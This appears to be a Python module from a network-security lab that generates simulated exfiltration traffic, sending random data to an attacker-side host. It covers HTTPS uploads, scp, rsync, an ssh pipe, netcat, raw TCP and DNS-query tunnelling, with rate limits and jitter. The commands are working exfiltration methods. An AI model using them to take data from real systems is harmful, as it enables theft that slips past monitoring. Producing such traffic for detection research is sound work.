"""Data taken out: over HTTPS, SSH, DNS and raw TCP; all at once, in pieces, or slowly."""

import socket
import struct

from attacks.tunnel import KINDS, label, resolver
from attacks.way import Way
from services import lair as far

SSH = ["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]


def loot(act):
    return act.scratch(act.draw("bytes", 150_000, 12_000_000))


def pace(act):
    """Bytes a second; 0 is as fast as it goes."""
    return act.pick("bytes_per_s", [0, 0, 400_000, 100_000, 20_000])


def curl(act):
    lair, limit = act.lair, pace(act)
    at = f"https://{lair.v4}:{lair.port['https']}/upload"
    words = ["curl", "-s", "-k", "-o", "/dev/null", *(["--limit-rate", limit] if limit else [])]
    if act.pick("pieces", ["one", "many"]) == "one":
        act.run([*words, "-T", loot(act), at])
        return
    size = act.pick("piece_bytes", [4_000, 60_000, 400_000])
    for _ in act.every(act.draw("period_s", 0.2, 4.0), act.pick("jitter", [0, 0.3, 0.9])):
        act.run([*words, "--data-binary", "@" + act.scratch(size), at], 20)


def wget(act):
    lair = act.lair
    for _ in act.every(act.draw("period_s", 0.5, 5.0), act.pick("jitter", [0, 0.5])):
        act.run(["wget", "-q", "-O", "/dev/null", "--no-check-certificate", "-T", 10, "-t", 1, "--post-file",
                 act.scratch(act.draw("bytes", 20_000, 2_000_000)), f"https://{lair.v4}:{lair.port['https']}/upload"], 20)


def scp(act):
    lair, limit = act.lair, pace(act)
    act.run(["scp", "-q", *SSH, "-i", lair.key, "-P", lair.port["ssh"], *(["-l", limit * 8 // 1000] if limit else []), loot(act),
             f"root@{lair.v4}:/dev/null"])


def rsync(act):
    lair, limit = act.lair, pace(act)
    shell = " ".join(map(str, ["ssh", *SSH, "-i", lair.key, "-p", lair.port["ssh"]]))
    act.run(["rsync", "-q", *([f"--bwlimit={max(1, limit // 1000)}"] if limit else []), "-e", shell, loot(act),
             f"root@{lair.v4}:/run/lab/tmp/taken{act.rng.randrange(1 << 30)}"])


def ssh(act):
    """A directory through a pipe."""
    lair = act.lair
    act.run(["bash", "-c", f"cat {loot(act)} | gzip -1 | ssh {' '.join(SSH)} -i {lair.key} -p {lair.port['ssh']} "
                           f"root@{lair.v4} 'cat > /dev/null'"])


def netcat(act):
    act.run(["bash", "-c", f"nc -q 1 {act.lair.v4} {far.SINK_PORT} < {loot(act)}"])


def own_tcp(act):
    """In drops, each as large as a letter."""
    lair = act.lair
    client = act.tcp(lair.v4, far.SINK_PORT)
    for _ in act.every(act.draw("period_s", 0.05, 2.0), act.pick("jitter", [0, 0.5])):
        client.sendall(act.rng.randbytes(act.rng.choice([500, 4_000, 30_000])))
    client.close()


def own_dns(act):
    """A file in names: as fast as the resolver answers, or a name every few seconds."""
    zone, at = resolver(act, far.OURS)
    kind = act.pick("record", ["A", "A", "TXT", "AAAA"])
    with act.udp(0.4) as client:
        for number in act.every(act.draw("period_s", 0.003, 4.0), act.pick("jitter", [0, 0.3, 0.9])):
            names = [part.encode() for part in [f"{number:x}", *label(act, act.variant.setdefault("bytes", act.rng.choice([20, 60, 110]))),
                                                *zone.split(".")]]
            text = b"".join(bytes([len(part)]) + part for part in names) + b"\0"
            client.sendto(act.rng.randbytes(2) + b"\x01\0\0\x01\0\0\0\0\0\0" + text + struct.pack("!HH", KINDS[kind], 1), (at, 53))
            try:
                client.recv(2048)
            except (TimeoutError, socket.timeout):
                pass


def dig(act):
    zone, at = resolver(act, far.OURS)
    for number in act.every(act.draw("period_s", 0.03, 2.0), act.pick("jitter", [0, 0.5])):
        act.run(["dig", f"@{at}", "+tries=1", "+time=1", "+short", ".".join([f"{number:x}", *label(act, 80), zone]), "A"], 3)


F = "exfiltration"
CASES = [("curl", "https", curl), ("wget", "https", wget), ("scp", "ssh", scp), ("rsync", "ssh", rsync), ("ssh", "ssh", ssh),
         ("nc", "tcp", netcat), ("ours", "tcp", own_tcp), ("ours", "dns", own_dns), ("dig", "dns", dig)]
WAYS = [Way(F, tool, name, act, by=by, seconds=(10, 30)) for tool, name, act in CASES for by in ("client", "client", "attacker")]
TOOLS = {"curl": "curl", "wget": "wget", "scp": "openssh-client", "rsync": "rsync", "ssh": "openssh-client",
         "nc": "netcat-openbsd", "dig": "bind9-dnsutils", "ours": "ours"}
